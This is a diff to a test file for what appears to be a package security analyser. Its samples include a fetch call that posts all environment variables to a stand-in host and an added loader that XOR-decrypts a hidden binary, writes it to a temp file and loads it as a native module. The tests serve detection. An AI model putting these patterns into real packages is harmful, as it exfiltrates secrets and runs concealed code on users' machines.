@@ -32,4 +32,19 @@ describe('an addon of WebAssembly', () => {
     const send = `fetch('https://a.invalid/', { method: 'POST', body: JSON.stringify(addon.pack({ ...process.env })) });`;
     assert.deepEqual(flowsOf(LOADED + send), ['environment>network']);
   });
+
+  it('is one of those for all systems, decrypted and loaded from where it was put', () => {
+    const code = `const fs = require('fs'), os = require('os'), path = require('path');
+      const raw = fs.readFileSync(path.join(__dirname, 'prebuilds', \`\${process.platform}-\${process.arch}\`, 'binding.dat'));
+      for (let i = 0; i < raw.length; i++) raw[i] ^= 0x5a;
+      const file = path.join(os.tmpdir(), '.' + process.pid + '.node'); fs.writeFileSync(file, raw, { mode: 0o755 });
+      process.dlopen({ exports: {} }, file);`;
+    const { flows } = analysePackage(
+      packageOf({ 'index.js': code, 'prebuilds/linux-x64/binding.dat': Buffer.alloc(64, 1) }),
+    );
+    assert.deepEqual(
+      flows.map(({ source, sink, detail }) => `${source}>${sink} ${detail ?? ''}`),
+      ['data-file>native-loaded prebuilds/linux-x64/binding.dat'],
+    );
+  });
 });
